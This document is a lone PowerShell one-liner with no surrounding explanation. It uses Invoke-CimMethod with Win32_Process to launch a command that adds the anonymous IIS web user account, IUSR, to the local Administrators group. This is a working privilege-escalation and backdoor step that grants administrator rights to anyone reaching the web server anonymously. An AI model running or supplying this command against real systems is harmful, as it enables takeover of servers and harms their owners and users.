Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'net localgroup Administrators IUSR /add'; CurrentDirectory = 'C:\' }
